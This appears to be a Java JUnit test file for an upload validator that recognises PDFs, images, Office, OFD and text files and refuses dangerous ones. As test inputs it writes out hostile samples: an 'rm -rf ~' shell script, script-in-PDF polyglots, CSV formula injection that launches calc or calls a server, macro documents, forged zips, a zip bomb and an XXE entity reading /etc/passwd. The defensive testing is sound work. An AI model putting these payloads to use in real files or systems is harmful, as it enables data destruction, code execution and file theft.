package io.redress.file;

import static io.redress.file.SmallFiles.contentTypes;
import static io.redress.file.SmallFiles.joined;
import static io.redress.file.SmallFiles.text;
import static io.redress.file.SmallFiles.zip;
import static org.assertj.core.api.Assertions.assertThat;

import io.redress.common.office.ForgedZip;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class FileTypeTest {

    private static final String DOCX_MAIN = FileType.DOCX.mediaType() + ".main+xml";

    @Test
    void files_of_scanners_and_phones_are_recognised() throws IOException {
        assertThat(FileType.detect(SmallFiles.pdf())).contains(FileType.PDF);
        assertThat(FileType.detect(SmallFiles.image("jpeg"))).contains(FileType.JPEG);
        assertThat(FileType.detect(SmallFiles.image("png"))).contains(FileType.PNG);
        assertThat(FileType.detect(SmallFiles.image("tiff"))).contains(FileType.TIFF);
        assertThat(FileType.detect(SmallFiles.webp())).contains(FileType.WEBP);
        assertThat(FileType.detect(SmallFiles.heic("heic", "heic"))).contains(FileType.HEIC);
        assertThat(FileType.detect(SmallFiles.heic("mif1", "heic"))).contains(FileType.HEIC);
    }

    @Test
    void office_documents_are_recognised_by_the_content_of_their_container() throws IOException {
        assertThat(FileType.detect(SmallFiles.docx())).contains(FileType.DOCX);
        assertThat(FileType.detect(SmallFiles.xlsx())).contains(FileType.XLSX);
        assertThat(FileType.detect(SmallFiles.pptx())).contains(FileType.PPTX);
        assertThat(FileType.detect(SmallFiles.xls())).contains(FileType.XLS);
        assertThat(FileType.detect(SmallFiles.ole("WordDocument", "1Table"))).contains(FileType.DOC);
        assertThat(FileType.detect(SmallFiles.ole("PowerPoint Document"))).contains(FileType.PPT);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<!DOCTYPE html><script>alert(1)</script>",
                "<svg xmlns=\"http://www.w3.org/2000/svg\"><script/></svg>",
                "#!/bin/sh\nrm -rf ~\n",
                "MZ\u0090\0\u0003\0\0\0\u0004\0\0\0\u00ff\u00ff\0\0PE\0\0%PDF-1.4 %%EOF",
                "\u007fELF\u0002\u0001\u0001\0%PDF-1.4 %%EOF",
                "{\\rtf1 \\object}",
                "GIF89a\u0001\0\u0001\0",
                "\0\0\0\u0018ftypmif1\0\0\0\0mif1avif",
                "plain words with a \u0001 control character",
                "From: a@example.com\nSubject: a mail\nMessage-ID: <1@example.com>\nReceived: x\n\nwords"
            })
    void other_file_types_are_refused(String content) {
        assertThat(FileType.detect(text(content))).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"x", "日期,金额\r\n2019-05-20,50000.00\r\n", "\uFEFF聊天记录：\n\t什么时候兑付？", "一页\f又一页"})
    void text_is_recognised_in_every_usual_encoding(String words) {
        for (var encoding : List.of("UTF-8", "GB18030", "UTF-16")) {
            assertThat(FileType.detect(words.getBytes(Charset.forName(encoding))))
                    .as(encoding)
                    .contains(FileType.TEXT);
        }
        assertThat(FileName.safe("流水.csv", FileType.TEXT)).isEqualTo("流水.csv");
        assertThat(FileName.safe("聊天记录", FileType.TEXT)).isEqualTo("聊天记录.txt");
        assertThat(FileName.safe("run.bat", FileType.TEXT)).isEqualTo("run.txt");
    }

    @Test
    void a_csv_file_that_starts_a_program_or_calls_a_server_gets_a_warning() {
        assertThat(ExaminedFile.of(text("name,amount\n=cmd|' /C calc'!A0,1\n")).warnings())
                .containsExactly(FileWarning.RUNS_PROGRAM);
        assertThat(ExaminedFile.of(text("a;\"=WEBSERVICE(\"\"http://x/\"\"&A1)\"\n"))
                        .warnings())
                .containsExactly(FileWarning.EXTERNAL_CONTENT);
        assertThat(ExaminedFile.of(text("a,b\n-5,+6\n见 a|b，很好!\n")).warnings()).isEmpty();
    }

    @Test
    void an_ofd_document_is_recognised_by_its_root() throws IOException {
        var root =
                "<?xml version=\"1.0\" encoding=\"UTF-8\"?><ofd:OFD xmlns:ofd=\"http://www.ofdspec.org/2016\" Version=\"1.0\"/>";
        assertThat(FileType.detect(zip(Map.of("OFD.xml", text(root))))).contains(FileType.OFD);
        assertThat(FileType.detect(zip(Map.of("OFD.xml", text("<OFD/>"))))).isEmpty();
        assertThat(FileType.detect(zip(Map.of("Doc_0/OFD.xml", text(root))))).isEmpty();
    }

    @Test
    void the_web_client_offers_the_accepted_file_types() throws IOException {
        var offered = Files.readString(Path.of("src/main/webui/src/features/registration/evidenceTypes.ts"));
        assertThat(Pattern.compile("\\.([a-z]+)(?=[,'])")
                        .matcher(offered)
                        .results()
                        .map(match -> match.group(1)))
                .containsExactlyElementsOf(Stream.of(FileType.values())
                        .flatMap(FileType::extensions)
                        .toList());
    }

    @Test
    void a_script_with_a_pdf_header_is_refused() {
        assertThat(FileType.detect(text("%PDF-1.4\n<script>alert(1)</script>"))).isEmpty();
        assertThat(FileType.detect(text("<script>/*\n%PDF-1.4\n%%EOF"))).isEmpty();
    }

    @Test
    void a_pdf_or_a_picture_followed_by_an_archive_is_refused() throws IOException {
        var jar = zip(Map.of("META-INF/MANIFEST.MF", text("Main-Class: Evil\n")));
        assertThat(FileType.detect(joined(SmallFiles.pdf(), jar))).isEmpty();
        assertThat(FileType.detect(joined(SmallFiles.image("png"), jar))).isEmpty();
    }

    @Test
    void a_plain_archive_is_refused_even_if_it_claims_to_be_a_document() throws IOException {
        assertThat(FileType.detect(zip(Map.of("合同.pdf", SmallFiles.pdf())))).isEmpty();
        assertThat(FileType.detect(zip(Map.of("word/document.xml", text("<w/>")))))
                .isEmpty();
        var partless = Map.of("[Content_Types].xml", contentTypes("/word/document.xml", DOCX_MAIN));
        assertThat(FileType.detect(zip(partless))).isEmpty();
        assertThat(FileType.detect(zip(Map.of()))).isEmpty();
    }

    @Test
    void documents_with_macros_are_refused() throws IOException {
        assertThat(FileType.detect(document(DOCX_MAIN, "word/vbaProject.bin"))).isEmpty();
        assertThat(FileType.detect(
                        document("application/vnd.ms-word.document.macroEnabled.main+xml", "word/styles.xml")))
                .isEmpty();
        assertThat(FileType.detect(SmallFiles.ole("WordDocument", "Macros/"))).isEmpty();
        assertThat(FileType.detect(SmallFiles.ole("Workbook", "_VBA_PROJECT_CUR/")))
                .isEmpty();
    }

    @Test
    void containers_with_other_content_are_refused() throws IOException {
        assertThat(FileType.detect(SmallFiles.ole("EncryptedPackage", "EncryptionInfo")))
                .isEmpty();
        assertThat(FileType.detect(SmallFiles.ole("WordDocument", "Workbook"))).isEmpty();
    }

    @Test
    void a_document_that_programs_read_differently_is_refused() throws IOException {
        var macros = zip(Map.of("word/vbaProject.bin", text("x")));
        assertThat(FileType.detect(ForgedZip.oneBehindTheOther(macros, SmallFiles.docx())))
                .isEmpty();
        assertThat(FileType.detect(ForgedZip.unlisted(macros, SmallFiles.docx())))
                .isEmpty();
        assertThat(FileType.detect(joined(SmallFiles.docx(), macros))).isEmpty();
        assertThat(FileType.detect(joined(SmallFiles.docx(), text("x")))).isEmpty();
    }

    @Test
    void a_part_that_would_unpack_to_a_gigabyte_is_never_unpacked() throws IOException {
        var content = new LinkedHashMap<String, byte[]>();
        content.put("[Content_Types].xml", new byte[64 * 1024 * 1024]);
        content.put("word/document.xml", text("<w/>"));
        assertThat(FileType.detect(zip(content))).isEmpty();
    }

    @Test
    void an_entity_in_the_list_of_parts_is_not_followed() throws IOException {
        var types = "<!DOCTYPE t [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><Types>&e;</Types>";
        assertThat(FileType.detect(zip(Map.of("[Content_Types].xml", text(types)))))
                .isEmpty();
    }

    @Test
    void damaged_containers_are_refused_without_other_errors() throws IOException {
        var random = new Random(7);
        assertThat(FileType.detect(Arrays.copyOf(SmallFiles.docx(), 1000))).isEmpty();
        for (var whole : new byte[][] {SmallFiles.docx(), SmallFiles.xls()}) {
            for (var i = 0; i < 200; i++) {
                var damaged = whole.clone();
                for (var j = 0; j < 40; j++) {
                    damaged[8 + random.nextInt(whole.length - 8)] = (byte) random.nextInt();
                }
                FileType.detect(damaged);
            }
        }
    }

    private static byte[] document(String mainType, String otherPart) throws IOException {
        return zip(Map.of(
                "[Content_Types].xml",
                contentTypes("/word/document.xml", mainType),
                "word/document.xml",
                text("<w/>"),
                otherPart,
                text("x")));
    }
}
